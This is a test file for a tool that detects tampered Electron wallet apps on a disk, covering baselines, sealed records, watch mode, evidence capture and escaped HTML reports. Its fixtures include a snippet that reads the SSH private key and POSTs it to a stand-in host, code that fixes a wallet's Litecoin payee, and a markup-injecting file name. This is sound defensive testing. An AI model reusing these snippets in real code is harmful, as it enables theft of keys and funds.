import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { setTimeout as wait } from 'node:timers/promises';
import { after, beforeEach, describe, it } from 'node:test';

import { Ajv } from 'ajv';

import schema from '../../schema/desktop.schema.json' with { type: 'json' };
import verdictSchema from '../../schema/verdict.schema.json' with { type: 'json' };
import { LITECOIN } from '../addresses.ts';
import { headerHash } from '../asar-builder.ts';
import { archiveOf, layoutOf, makeDisk, vendorFile } from '../desktop/trees.ts';
import type { FakeDisk } from '../desktop/trees.ts';
import { makeNpmHome } from '../npm-home.ts';
import { BIN, runUnmask } from './run-unmask.ts';
import type { Ran } from './run-unmask.ts';

const FOLLOWS = new Ajv({ allowUnionTypes: true }).addSchema(verdictSchema, 'verdict.schema.json').compile(schema);
/** The hash that the vendor embedded, whatever became of the archive since. */
const VENDORS = headerHash(archiveOf({}));
const STEALS = `const fs = require('fs'), os = require('os'), https = require('https');
const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');
https.request({ host: 'collector.invalid', method: 'POST' }).end(key);
`;
const PAYS = { [vendorFile()]: `export function vendors() { this.inputs.address = '${LITECOIN}'; }\n` };

describe('unmask desktop', () => {
  const home = makeNpmHome();
  const disks: FakeDisk[] = [];
  let disk = makeDisk();
  disks.push(disk);
  beforeEach(() => {
    disk = makeDisk();
    disks.push(disk);
  });
  after(() => {
    for (const one of disks) {
      one.remove();
      rmSync(`${one.root}.kept`, { recursive: true, force: true });
    }
    home.remove();
  });
  const NSIS = layoutOf('NSIS, per user');
  const baselineFile = (): string => join(`${disk.root}.kept`, 'baseline.json');
  const run = (verb: string, ...args: string[]): Promise<Ran> => {
    const baseline = baselineFile();
    const known = verb === 'baseline' || existsSync(baseline) ? ['--baseline', baseline] : [];
    const ground = ['--root', disk.root, '--platform', 'win32', ...(args.includes('--baseline') ? [] : known)];
    return runUnmask(['desktop', verb, ...args, ...(args.includes('--root') ? [] : ground)], {
      cwd: home.cwd,
      env: { ...home.env, UNMASK_CACHE: '0' },
    });
  };
  const states = ({ out }: Ran): string[][] => JSON.parse(out).apps.map((app: { name: string; state: string }) => [app.name, app.state]);

  it('finds what was tampered with end to end: unknown, recorded, pristine, tampered, explained', async () => {
    disk.install(NSIS);
    const first = await run('scan');
    assert.deepEqual([first.code, first.err], [0, '']);
    assert.match(first.out, /^UNKNOWN {2}Inert Wallet 1\.0\.0, a wallet\n/);
    assert.match(
      (await run('baseline')).out,
      /^recorded +Inert Wallet 1\.0\.0: unknown\n\nBaseline .*\nIts key .*seal\.key\nFingerprint +[\da-f]{64}\n$/,
    );
    assert.deepEqual(states(await run('scan', '--json')), [['Inert Wallet', 'pristine']]);

    const path = disk.install(NSIS, { over: PAYS, repacked: true });
    const { code, out } = await run('scan', '--json');
    const { apps, coverage } = JSON.parse(out);
    assert.equal(code, 1);
    assert.deepEqual(Object.keys(apps[0]), ['name', 'path', 'version', 'state', 'reference', 'changed', 'findings']);
    assert.ok(FOLLOWS(JSON.parse(out)), JSON.stringify(FOLLOWS.errors));
    assert.equal(coverage.apps[0].checks.find((one: { rung: number }) => one.rung === 5)?.outcome, 'disagrees');
    const explanation = (await run('explain', 'Inert Wallet', '--json')).out;
    const whole = JSON.parse(explanation);
    assert.ok(FOLLOWS(JSON.parse(explanation)), JSON.stringify(FOLLOWS.errors));
    assert.match(whole.apps[0].next[0], /Stop using this wallet/);
    assert.deepEqual([apps[0].path, apps[0].state, apps[0].reference.rung, apps[0].reference.outcome], [path, 'tampered', 5, 'disagrees']);
    assert.ok(apps[0].changed.some((one: { path: string }) => one.path === `resources/app.asar/${vendorFile()}`));
    assert.ok(
      apps[0].findings.some(
        (one: { detector: string; weight: string }) => one.detector === 'pays-fixed-recipient' && one.weight === 'proof',
      ),
    );
    assert.ok(coverage.places > 0);

    const explained = await run('explain', 'Inert Wallet');
    assert.match(
      (await run('explain', 'inertwalet')).err,
      /Did you mean "unmask desktop explain inertwallet --root .* --platform win32 --baseline .*baseline\.json"/,
    );
    assert.equal(explained.code, 1);
    for (const says of [/Held against/, /own baseline/, /Protections in its binary/, /Stop using this wallet now/, /sets who is paid/])
      assert.match(explained.out, says);
    assert.equal((await run('baseline')).code, 1);
    assert.deepEqual(states(await run('scan', '--json')), [['Inert Wallet', 'tampered']]);
  });

  it('keeps what was accepted under the name of what it is', async () => {
    disk.install(NSIS);
    await run('baseline');
    disk.install(NSIS, { over: { 'index.js': 'export const mine = 1;\n' } });
    assert.equal((await run('scan', '--fail-on', 'warn')).code, 1);
    assert.match((await run('baseline', '--accept', 'Inert Wallet')).out, /^recorded/);
    assert.deepEqual(states(await run('scan', '--json')), [['Inert Wallet', 'modified by a known mod']]);
  });

  it('accepts nothing that holds proof of hostile deeds, and no name that nothing has', async () => {
    disk.install(NSIS);
    await run('baseline');
    disk.install(NSIS, { over: PAYS });
    assert.match((await run('baseline', '--accept', 'Inert Wallet')).out, /^NOT recorded/);
    assert.deepEqual(states(await run('scan', '--json')), [['Inert Wallet', 'tampered']]);
    const { code, err } = await run('baseline', '--accept', 'Exodus');
    assert.equal(code, 2);
    assert.match(err, /no application Exodus to accept/);
  });

  it('advises nobody to record what holds proof of hostile deeds, whatever is known of it, and does not call it decided', async () => {
    disk.install(NSIS, { over: { 'index.js': STEALS } });
    const { code, out } = await run('scan');
    assert.equal(code, 2);
    assert.match(out, /^UNKNOWN[^]*What its code does[^]*do not use\s+it/);
    assert.doesNotMatch(out, /record it now/);
  });

  it('says that a baseline was changed, uses nothing of it, and cannot decide', async () => {
    disk.install(NSIS);
    await run('baseline');
    const file = baselineFile();
    writeFileSync(file, readFileSync(file, 'utf8').replace('"1.0.0"', '"1.0.1"'));
    const { code, out } = await run('scan');
    assert.equal(code, 2);
    assert.match(out, /does not bear its seal/);
    assert.match(out, /^UNKNOWN/);
  });

  it('writes over no baseline that does not bear its seal unless it is told to, and says what to copy', async () => {
    disk.install(NSIS);
    await run('baseline');
    const file = baselineFile();
    const whole = readFileSync(file, 'utf8');
    const changed = whole.replace('"1.0.0"', '"1.0.1"');
    writeFileSync(file, changed);
    const refused = await run('baseline');
    assert.equal(refused.code, 2);
    assert.match(refused.err, /does not bear its seal.* It was left as it is\.[\s\S]*--replace/);
    assert.equal(readFileSync(file, 'utf8'), changed);
    const replaced = await run('baseline', '--replace');
    assert.equal(replaced.code, 0);
    assert.match(replaced.err, /A new one takes its place/);
    assert.deepEqual(states(await run('scan', '--json')), [['Inert Wallet', 'pristine']]);

    const alone = join(`${disk.root}.kept`, 'copy');
    mkdirSync(alone);
    writeFileSync(join(alone, 'baseline.json'), readFileSync(file));
    const copied = await run('scan', '--baseline', join(alone, 'baseline.json'));
    assert.equal(copied.code, 2);
    assert.match(copied.out.replace(/\s+/g, ' '), /seal\.key, does not lie beside it: whoever copies a baseline copies both/);
    assert.equal((await run('baseline', '--baseline', join(alone, 'baseline.json'))).code, 2);
    writeFileSync(join(alone, 'seal.key'), readFileSync(join(`${disk.root}.kept`, 'seal.key')));
    assert.equal((await run('scan', '--baseline', join(alone, 'baseline.json'))).code, 0);
  });

  it('advises commands that look at the same disk, and work as they stand', async () => {
    disk.install(NSIS);
    const { next } = JSON.parse((await run('scan', '--json', '--verbose')).out).apps[0];
    const advised = next.join(' ').match(/unmask (desktop baseline .*)\.$/)?.[1];
    assert.equal(advised, `desktop baseline --root ${disk.root} --platform win32 --baseline <file>`);
    const words = advised.replace('<file>', baselineFile()).split(' ');
    assert.equal((await runUnmask(words, { cwd: home.cwd, env: home.env })).code, 0);
    disk.install(NSIS, { over: { 'index.js': 'export const mine = 1;\n' }, embedded: VENDORS });
    const { out } = await run('scan');
    assert.match(out.replace(/\s+/g, ' '), /accept it: unmask desktop baseline --root .* --baseline .*baseline\.json --accept <its path>/);
  });

  it('keeps what was accepted also where its vendor embedded a hash of it', async () => {
    disk.install(NSIS);
    await run('baseline');
    disk.install(NSIS, { over: { 'index.js': 'export const mine = 1;\n' }, embedded: VENDORS });
    assert.deepEqual(states(await run('scan', '--json')), [['Inert Wallet', 'modified and unexplained']]);
    assert.equal((await run('baseline', '--accept', 'Inert Wallet')).code, 0);
    assert.deepEqual(states(await run('scan', '--json')), [['Inert Wallet', 'modified by a known mod']]);
    disk.install(NSIS, { over: { 'index.js': 'export const mine = 2;\n' }, embedded: VENDORS });
    assert.deepEqual(states(await run('scan', '--json')), [['Inert Wallet', 'modified and unexplained']]);
  });

  it('writes nothing onto the disk it examines, nor through a link', async () => {
    const path = disk.install(NSIS);
    const link = `${disk.root}.kept`;
    mkdirSync(link);
    symlinkSync(join(disk.root, 'report.txt'), join(link, 'report.txt'));
    for (const at of [join(disk.root, 'report.txt'), join(path, 'report.txt'), join(link, 'report.txt')]) {
      for (const [verb, option] of [
        ['scan', '--output'],
        ['scan', '--evidence'],
        ['baseline', '--baseline'],
      ] as const) {
        const { code, err } = await run(verb, option, at);
        assert.equal(code, 2, `${verb} ${option} ${at}`);
        assert.match(err, /lies in what is examined, and nothing is written there/);
        assert.match(err, new RegExp(`elsewhere by ${option}`));
      }
    }
    const own = await runUnmask(['desktop', 'scan', path, '--output', join(path, 'report.txt')], { cwd: home.cwd, env: home.env });
    assert.match(own.err, /lies in what is examined/);
    assert.deepEqual([existsSync(join(disk.root, 'report.txt')), existsSync(join(path, 'report.txt'))], [false, false]);
  });

  it('tells two applications of one name apart, by their paths', async () => {
    disk.install(NSIS);
    disk.install(layoutOf('NSIS, per machine, old'), { over: PAYS });
    const { code, out } = await run('scan', '--json');
    assert.equal(code, 1);
    assert.deepEqual(
      JSON.parse(out).apps.map((app: { path: string; state: string }) => [app.path.includes('Program Files'), app.state]),
      [
        [true, 'tampered'],
        [false, 'unknown'],
      ],
    );
  });

  it('says of a broken archive that it cannot be read', async () => {
    const old = layoutOf('NSIS, per machine, old');
    disk.install(old);
    disk.write(`${old.folder('1.0.0')}/resources/app.asar`, 'no archive');
    const { code, out } = await run('scan');
    assert.equal(code, 2);
    assert.match(out, /^UNKNOWN {2}Inert Wallet, a wallet\n/);
    assert.match(out, /its archive cannot be read: it is too short/);
    assert.match((await run('baseline')).out, /^NOT recorded/);
  });

  it('follows no link off the disk', async () => {
    disk.install(NSIS);
    const other = makeDisk();
    disks.push(other);
    const there = other.install(NSIS);
    symlinkSync(there, join(disk.root, 'Users/user/AppData/Local/Programs/elsewhere'));
    assert.deepEqual(states(await run('scan', '--json')), [['Inert Wallet', 'unknown']]);
  });

  it(
    'tells a folder that it may not read',
    { skip: process.getuid?.() === 0 ? 'root may read everything' : process.platform === 'win32' },
    async () => {
      disk.install(NSIS);
      const closed = join(disk.root, 'Program Files');
      disk.write('Program Files/x/y', '');
      chmodSync(closed, 0);
      const { out } = await run('scan');
      chmodSync(closed, 0o700);
      assert.match(out, /Not looked into: .*Program Files \(the system says EACCES\)/);
    },
  );

  it('takes paths: an application, its archive, the folder above; and says where there is none', async () => {
    const path = disk.install(NSIS);
    for (const one of [path, join(path, 'resources/app.asar'), join(path, '..')])
      assert.deepEqual(states(await run('scan', one, '--json')), [['Inert Wallet', 'unknown']]);
    const { code, err } = await run('scan', join(disk.root, 'nowhere'));
    assert.equal(code, 2);
    assert.match(err, /There is no application of Electron at/);
  });

  it('watches: tells of an application when it was changed and is quiet again', { timeout: 60_000 }, async () => {
    disk.install(NSIS);
    const file = baselineFile();
    await run('baseline');
    const tools = join(disk.root, 'tools');
    const shown = join(disk.root, 'shown.txt');
    disk.write('tools/notify-send', `#!/bin/sh\nprintf '%s\\n' "$@" > '${shown}.new'\n/bin/mv '${shown}.new' '${shown}'\n`);
    chmodSync(join(tools, 'notify-send'), 0o755);
    const child = spawn(
      process.execPath,
      [BIN, 'desktop', 'watch', '--root', disk.root, '--platform', 'win32', '--baseline', file, '--every', '0.1', '--json', '--notify'],
      {
        env: { ...home.env, UNMASK_CACHE: '0', PATH: tools },
        stdio: ['ignore', 'pipe', 'pipe'],
      },
    );
    const ended = once(child, 'exit');
    await once(child.stderr, 'data');
    disk.install(NSIS, { over: PAYS, repacked: true });
    const [line] = await once(createInterface(child.stdout), 'line');
    assert.equal(JSON.parse(line).state, 'tampered');
    if (process.platform === 'linux') {
      while (!existsSync(shown)) await wait(50);
      assert.match(
        readFileSync(shown, 'utf8'),
        /^--app-name=Unmask\n--urgency=critical\n--\nUnmask\nInert Wallet 1\.0\.0: tampered\. Stop using/,
      );
    }
    child.kill('SIGTERM');
    const [code] = await ended;
    assert.equal(code, process.platform === 'win32' ? null : 0);
  });

  it('watches what no baseline knows against how it was when the watch began, deep in it as well', { timeout: 60_000 }, async () => {
    disk.install(NSIS, { beside: { 'resources/modules/deep/inert.js': 'export const INERT = 1;\n' } });
    const child = spawn(
      process.execPath,
      [BIN, 'desktop', 'watch', '--root', disk.root, '--platform', 'win32', '--every', '0.1', '--json'],
      {
        env: { ...home.env, UNMASK_CACHE: '0' },
        stdio: ['ignore', 'pipe', 'pipe'],
      },
    );
    const ended = once(child, 'exit');
    const said = createInterface(child.stderr)[Symbol.asyncIterator]();
    assert.match((await said.next()).value ?? '', /reading 1 application that no baseline knows/);
    assert.match((await said.next()).value ?? '', /watching 1 application;/);
    const lines = createInterface(child.stdout)[Symbol.asyncIterator]();
    disk.write(`${NSIS.folder('')}/resources/modules/deep/inert.js`, 'export const INERT = 2;\n');
    const first = JSON.parse((await lines.next()).value ?? '');
    assert.deepEqual(
      [first.state, first.reference.by, first.changed],
      ['modified and unexplained', 'own baseline of the time of this watch', [{ path: 'resources/modules/deep/inert.js', how: 'changed' }]],
    );
    disk.install(NSIS, { over: PAYS, repacked: true });
    assert.equal(JSON.parse((await lines.next()).value ?? '').state, 'tampered');
    child.kill('SIGTERM');
    await ended;
  });

  it('misses what was recorded and hides, and not what was removed', async () => {
    const path = disk.install(NSIS);
    await run('baseline');
    renameSync(join(path, 'resources/app.asar'), join(path, 'resources/moved.bin'));
    const hidden = await run('scan');
    assert.equal(hidden.code, 2);
    assert.match(hidden.out.replace(/\s+/g, ' '), /Inert Wallet was recorded in Users.*and its program is there/);
    rmSync(join(path, 'inertwallet.exe'));
    assert.doesNotMatch((await run('scan')).out, /was recorded in/);
  });

  it('wants a baseline that is named to be there, and to be one', async () => {
    disk.install(NSIS);
    const file = baselineFile();
    mkdirSync(`${disk.root}.kept`);
    const missing = await run('scan', '--baseline', file);
    assert.equal(missing.code, 2);
    assert.match(missing.err, /There is no baseline at .*baseline\.json/);
    writeFileSync(file, 'notes of mine\n');
    for (const verb of ['scan', 'baseline']) {
      const other = await run(verb);
      assert.equal(other.code, 2);
      assert.match(other.err, /is no baseline of unmask desktop/);
    }
    assert.equal(readFileSync(file, 'utf8'), 'notes of mine\n');
    rmSync(file);
    assert.equal((await run('baseline')).code, 0);
  });

  it('teaches: help, verbs, options', async () => {
    assert.match((await run('--help')).out, /unmask desktop scan --root \.\/their-disk --platform win32/);
    assert.match((await run('scn')).err, /Did you mean "unmask desktop scan"/);
    assert.match((await run('scan', '--root', disk.root)).err, /Add --platform/);
    assert.match((await run('explain')).err, /One application is explained at a time/);
  });

  it('does not take nothing for an answer: an empty folder, the disk of another system, no such folder', async () => {
    const empty = await run('scan');
    assert.equal(empty.code, 2);
    assert.match(empty.out, /^0 applications of Electron\n {2}Nothing was examined: .* none of the folders/m);
    const { code, out } = await run('scan', '--json');
    assert.equal(code, 2);
    assert.ok(FOLLOWS(JSON.parse(out)), JSON.stringify(FOLLOWS.errors));
    assert.match(JSON.parse(out).coverage.notes[0], /^Nothing was examined/);

    disk.install(layoutOf('package of a distribution'));
    disk.write('etc/passwd', '');
    assert.match((await run('scan')).out, /looks\s+like a disk of linux\. Use --platform linux/);
    const none = await run('scan', '--root', join(disk.root, 'none'), '--platform', 'linux');
    assert.deepEqual([none.code, none.out], [2, '']);
    assert.match(none.err, /There is no /);
  });

  it('records no baseline where there is nothing to record, and keeps the one there is', async () => {
    disk.install(NSIS);
    await run('baseline');
    const kept = readFileSync(baselineFile(), 'utf8');
    disk.clear('Users');
    const { code, err } = await run('baseline');
    assert.equal(code, 2);
    assert.match(err, /no application of Electron to record/);
    assert.equal(readFileSync(baselineFile(), 'utf8'), kept);
  });

  it('writes a page for a support team, in which nothing of an application is markup', async () => {
    disk.install(NSIS);
    await run('baseline');
    disk.install(NSIS, { over: { ...PAYS, 'dist/<img src=x>|`*.js': 'export const INERT = 1;\n' }, repacked: true });
    const { code, out } = await run('scan', '--format', 'markdown');
    assert.equal(code, 1);
    for (const part of [
      /^# Unmask: desktop applications$/m,
      /^## TAMPERED: Inert Wallet/m,
      /^1\. Stop using this wallet now/m,
      /^### Held against$/m,
    ])
      assert.match(out, part);
    assert.doesNotMatch(out, /(?<!`[^`\n]*)<img/);
    const page = (await run('scan', '--format', 'html')).out;
    assert.match(page, /^<!doctype html>\n<html lang="en">/);
    assert.match(page, /<span class="badge block">TAMPERED<\/span>Inert Wallet 1\.0\.0, a wallet/);
    assert.match(page, /What to do now<\/h3><ul><li>Stop using this wallet now/);
    assert.doesNotMatch(page, /<img|<script|<[^>]* src=|href="(?!#)/);
    assert.match((await run('scan', '--format', 'rtf')).err, /--format takes text, json, markdown, html/);
  });

  it('sets evidence aside under the hashes of contents, touches nothing, and mixes nothing', async () => {
    disk.install(NSIS);
    await run('baseline');
    const path = disk.install(NSIS, { over: PAYS, repacked: true });
    const before = statSync(join(path, 'resources/app.asar'));
    const folder = mkdtempSync(join(tmpdir(), 'unmask-evidence-'));
    const { code, err } = await run('scan', '--evidence', folder);
    assert.equal(code, 1);
    assert.match(err, /changed files copied to/);
    const { kept } = JSON.parse(readFileSync(join(folder, 'evidence.json'), 'utf8'));
    const vendors = kept.find((one: { path: string }) => one.path === `resources/app.asar/${vendorFile()}`);
    assert.match(readFileSync(join(folder, vendors.file), 'utf8'), /this\.inputs\.address/);
    for (const { file, sha256 } of kept) {
      assert.equal(file, `${sha256}.bin`);
      assert.equal(
        createHash('sha256')
          .update(readFileSync(join(folder, file)))
          .digest('hex'),
        sha256,
      );
    }
    assert.ok(kept.some((one: { path: string }) => one.path === 'resources/app.asar'));
    assert.match(readFileSync(join(folder, 'report.md'), 'utf8'), /^## TAMPERED/m);
    assert.ok(FOLLOWS(JSON.parse(readFileSync(join(folder, 'report.json'), 'utf8'))));
    assert.equal(statSync(join(path, 'resources/app.asar')).mtimeMs, before.mtimeMs);
    assert.match((await run('scan', '--evidence', folder)).err, /is not empty/);
    assert.match((await run('scan', '--evidence', join(path, 'evidence'))).err, /lies in what is examined/);
    assert.ok(!existsSync(join(path, 'evidence')));
    rmSync(folder, { recursive: true });
  });

  it('knows an archive by its hash, and takes further lists of them', async () => {
    const path = disk.install(NSIS);
    const bytes = readFileSync(join(path, 'resources/app.asar'));
    const list = join(disk.root, 'known-bad.tsv');
    const row = (note: string): string => `inert\t${createHash('sha256').update(bytes).digest('hex')}\t${bytes.length}\t${note}\n`;
    writeFileSync(list, `app\tsha256\tsize\tnote\n${row('an inert stand-in')}`);
    const known = JSON.parse((await run('scan', '--known-bad', list, '--json')).out);
    assert.deepEqual([known.apps[0].state, known.apps[0].reference.rung], ['tampered', 6]);
    writeFileSync(list, `app\tsha256\tsize\tnote\n${row('SUSPECTED')}`);
    assert.deepEqual(states(await run('scan', '--known-bad', list, '--json')), [['Inert Wallet', 'modified and unexplained']]);
    writeFileSync(list, 'app\tsha256\tsize\tnote\ninert\tnone\t1\t\n');
    assert.match((await run('scan', '--known-bad', list)).err, /line 2 has no SHA-256/);
  });
});
